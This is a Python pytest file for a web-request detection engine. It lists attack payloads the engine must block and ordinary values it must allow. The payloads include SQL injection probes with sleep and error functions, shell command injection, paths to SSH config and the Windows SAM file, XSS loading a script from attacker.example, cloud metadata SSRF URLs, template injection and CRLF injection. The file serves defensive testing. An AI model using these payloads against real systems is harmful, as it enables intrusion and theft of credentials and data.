"""Unit: attack shapes first met in SecLists, fuzzdb and nuclei-templates' DAST payloads (split fresh6), and the
benign values from public OpenAPI examples that a rule must let through. Every case goes through the whole engine
(decoders, prefilter, analysers), with other values than the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
AGENT = Context("header", "user-agent")
HOST = Context("header", "host")



ATTACKS: dict[str, tuple[str, Context, str]] = {
    # SQL after a string breakout: sqlmap's inline, boolean and error templates behind a quote
    "sqli_subquery_of_case_after_quote": ("shoes' (select (case when (31=31) then 1 else 0 end)) and 'a'='a", BODY,
                                          "sqli"),
    "sqli_subquery_of_column_after_quote": ("x' (select price from generate_series(7,7,1) limit 1)-- -", BODY, "sqli"),
    "sqli_parenthesised_case_probe": ("x') (case when 77=77 then 1 else null end) and ('b'='b", BODY, "sqli"),
    "sqli_parenthesised_tautology_product": ("x' (12=12)*x-- -", BODY, "sqli"),
    "sqli_make_set_probe_after_quote": ("shoes' make_set(44=44,7)-- -", BODY, "sqli"),
    "sqli_iif_probe_after_quote": ("shoes') iif(3=3,3,1/0) and ('c'='c", BODY, "sqli"),
    "sqli_error_function_in_parens_after_quote": ("shoes') (updatexml(1,concat('.','x'),2)) and ('c'='c", BODY,
                                                  "sqli"),
    "sqli_cast_around_case_probe": ("x' (cast('a'||(select (case when (9=9) then 1 else 0 end))::text||'b' as numeric))"
                                    "-- -", BODY, "sqli"),
    "sqli_comma_then_case_probe": ("x',(case when 5=5 then 1 else null end)-- -", BODY, "sqli"),
    "sqli_comma_then_cast_of_series": ("x',(cast('a'||(select 1 from generate_series(2,2,case when (2=2) then 1 "
                                       "else 0 end) limit 1)::text||'b' as numeric))-- -", BODY, "sqli"),
    # SQL: stacked statements that do not start with a bare keyword
    "sqli_stacked_parenthesised_select": ("x';(select * from (select(sleep(3)))abc)-- -", BODY, "sqli"),
    "sqli_stacked_create_or_replace": ("x';create or replace function f(int) returns int as 'libc.so.6','sleep' "
                                       "language 'C' strict-- -", BODY, "sqli"),
    "sqli_stacked_plsql_block": ("x';begin dbms_lock.sleep(3); end-- -", BODY, "sqli"),
    "sqli_numeric_stacked_plsql_block": ("7;BEGIN user_lock.sleep(3); END", QUERY, "sqli"),
    "sqli_stacked_iif_probe": ("x');iif(4=4,1,1/0)-- -", BODY, "sqli"),
    # commands
    "cmdi_variable_set_then_run_ansi_quoted": ("x;CMD=$'whoami';$CMD", BODY, "cmdi"),
    "cmdi_variable_set_then_run_double_quoted": ('x&&RUN="cat /etc/hosts";$RUN', BODY, "cmdi"),
    "cmdi_variable_set_then_run_escaped_quotes": ("x|C=$\\'uname -a\\';${C}", BODY, "cmdi"),
    "cmdi_bourne_caret_pipe": ("7^uname -a", BODY, "cmdi"),
    "cmdi_dir_of_drive_with_forward_slash": ("x| dir c:/", BODY, "cmdi"),
    # traversal
    "traversal_absolute_ssh_config": ("/etc/ssh/sshd_config", BODY, "traversal"),
    "traversal_absolute_auth_log": ("/var/log/auth.log", QUERY, "traversal"),
    "traversal_absolute_kernel_file": ("/sys/kernel/notes", BODY, "traversal"),
    "traversal_drive_system32": ("d:/System32/config/SAM", BODY, "traversal"),
    # XSS
    "xss_cdata_split_script_tag": ("<x><![CDATA[<]]>script<![CDATA[>]]>alert(document.domain)<![CDATA[<]]>/script"
                                   "<![CDATA[>]]></x>", BODY, "xss"),
    "xss_cdata_split_javascript_url": ("<![CDATA[<img src=\"java]]><![CDATA[script:alert(1)\">]]>", BODY, "xss"),
    "xss_htc_behaviour_import": ('<?import namespace="t" implementation="//attacker.example/x.htc">', BODY, "xss"),
    # NoSQL, SSRF, templates
    "nosqli_operator_opening_value": ("$where: 'this.a == this.a'", BODY, "nosqli"),
    "ssrf_tencent_metadata_url": ("http://metadata.tencentyun.com/meta-data/placement/region", BODY, "ssrf"),
    "ssrf_tencent_metadata_as_host_header": ("metadata.tencentyun.com", HOST, "ssrf"),
    "ssti_smarty_math_equation": ('{math equation="x*y" x=9 y=9}', BODY, "ssti"),
    "ssti_statement_tag_still_opens": ("{% if 7*7 %}x{% endif %}", BODY, "ssti"),
    # CRLF: a blank line then a body, after plain text
    "crlf_blank_line_then_body_after_text": ("x\r\n\r\n<html>owned</html>", QUERY, "crlf"),
}


@pytest.mark.parametrize(("value", "ctx", "rule"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh6_shape_is_blocked(engine: Engine, value: str, ctx: Context, rule: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == rule


BENIGN: dict[str, tuple[str, Context]] = {
    # OData / search filters and quantities
    "odata_filter_quoted_wildcard": ("Status eq '*'", BODY),
    "quoted_alert_filter_with_negation": ('"!error|warn|timeout[db]"', BODY),
    "feet_then_inches": ("3' = 36 inches", BODY),
    "parenthesised_aside_after_quote": ("Rock 'n' (roll) all night", BODY),
    "function_words_after_quote": ("Bob's count(items) is 3", BODY),
    # shell-looking text
    "caret_powers_in_math": ("x^2 + y^2 = r^2", BODY),
    "anchored_regex": ("^[a-z0-9_-]{3,16}$", BODY),
    "variable_set_to_a_name_then_expanded": ("NAME='Ada';$NAME", BODY),
    # paths that are not whole system paths
    "etc_in_a_sentence": ("Mount it at /etc/app/config.yaml in the container", BODY),
    "api_path_with_etc_segment": ("/api/v1/etc/items", BODY),
    # markup and templates
    "cdata_with_comparison": ("<![CDATA[Price < 5 & > 2]]>", BODY),
    "xml_declaration": ('<?xml version="1.0"?><note>hi</note>', BODY),
    "html_paragraphs_with_blank_line": ("<p>One</p>\n\n<p>Two</p>", BODY),
    "json_text_with_encoded_breaks_in_header": ('{%0A  "total": 3,%0A  "years": "2019-21"%0A}', AGENT),
    "math_word_in_braces": ("{math is fun}", BODY),
    "dollar_currency_label": ("$USD: 12.50", BODY),
    "tencent_docs_url": ("https://cloud.tencent.com/document/product/213", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_value_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None
